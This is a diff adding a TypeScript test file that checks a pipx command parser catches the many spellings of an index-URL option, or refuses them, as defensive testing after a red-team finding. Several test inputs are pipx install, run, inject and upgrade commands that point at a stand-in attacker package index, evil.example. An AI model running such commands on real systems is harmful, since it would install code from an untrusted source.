@@ -1,0 +1,112 @@
+/**
+ * pipx read as its own argparse reads it (red team red5 F4): the spellings pipx accepts for
+ * an index name it or are refused; options a command does not have are refused. The same
+ * cases as tests/deps/test_pipx_cli.py (which also holds the reading to the real pipx).
+ */
+import { pipxRequest } from './pipx';
+import { parsePipx } from './pipxcli';
+import { COMMAND_LINE } from './request';
+import { shellWords } from './words';
+import parseVectors from '../../schema/vectors/pipx-parse.json';
+
+const EVIL = 'https://evil.example/simple';
+const context = {
+  cwd: '/nonexistent-warden-dir',
+  place: COMMAND_LINE,
+  env: {},
+  readFile: (): string => {
+    throw new Error('no files here');
+  },
+  label: (p: string) => p
+};
+const read = (text: string) => pipxRequest(shellWords(text), context, {});
+
+describe('pipx option spellings', () => {
+  it.each([
+    `install --index-u=${EVIL} black`,
+    `install --index ${EVIL} black`,
+    `install -i${EVIL} black`,
+    `install -i=${EVIL} black`,
+    `install -qfi${EVIL} black`,
+    `install --pip-arg='-i ${EVIL}' black`,
+    `install --pip='--index-url=${EVIL}' black`,
+    `run --sp=torcj --index-u ${EVIL} black`,
+    `inject --index-u=${EVIL} black torcj`,
+    `upgrade --index-u=${EVIL} black`
+  ])('%s names the index or is refused', text => {
+    const request = read(text)!;
+    expect(
+      request.sources.some(s => s.url === EVIL) || request.problems.length > 0
+    ).toBe(true);
+  });
+
+  it.each([
+    'install --zzz black',
+    'install -Z black',
+    'run --zzz black',
+    'list --zzz',
+    'install --in=x black',
+    'install black --index-url',
+    'install --index-url --force black'
+  ])('%s is refused', text => {
+    expect(read(text)?.problems.length).toBeGreaterThan(0);
+  });
+
+  it('reads as argparse does: attached values, combined flags, + options, remainders', () => {
+    expect(parsePipx(shellWords(`install -qeiURL --suffix=_2 a b`))).toEqual({
+      command: 'install',
+      options: [
+        ['quiet', '-q', null],
+        ['editable', '-e', null],
+        ['index_url', '-i', 'URL'],
+        ['suffix', '--suffix', '_2']
+      ],
+      positionals: ['a', 'b'],
+      remainder: null
+    });
+    // an attached value is a + option's only one (argparse)
+    expect(parsePipx(shellWords('pin --skip=a b'))).toMatchObject({
+      options: [['skip', '--skip', ['a']]],
+      positionals: ['b']
+    });
+    expect(parsePipx(shellWords('pin --skip a b -q x'))).toMatchObject({
+      options: [
+        ['skip', '--skip', ['a', 'b']],
+        ['quiet', '-q', null]
+      ],
+      positionals: ['x']
+    });
+    expect(parsePipx(shellWords('runpip v -q install -i X p'))).toMatchObject({
+      positionals: ['v'],
+      remainder: ['-q', 'install', '-i', 'X', 'p']
+    });
+    expect(
+      parsePipx(shellWords('run --spec s -- app --index-url X'))
+    ).toMatchObject({
+      options: [['spec', '--spec', 's']],
+      remainder: ['app', '--index-url', 'X']
+    });
+    expect(parsePipx(shellWords('interpreter frob'))).toMatch(
+      /not a pipx command/
+    );
+  });
+});
+
+describe('schema/vectors/pipx-parse.json (shared with tests/deps/test_pipx_cli.py)', () => {
+  it.each(parseVectors.vectors.map(v => [v.args.join(' '), v] as const))(
+    'pipx %s',
+    (_label, vector) => {
+      const line = parsePipx(vector.args);
+      expect(
+        typeof line === 'string'
+          ? { refused: true }
+          : {
+              command: line.command,
+              options: line.options,
+              positionals: line.positionals,
+              remainder: line.remainder
+            }
+      ).toEqual(vector.expect);
+    }
+  );
+});
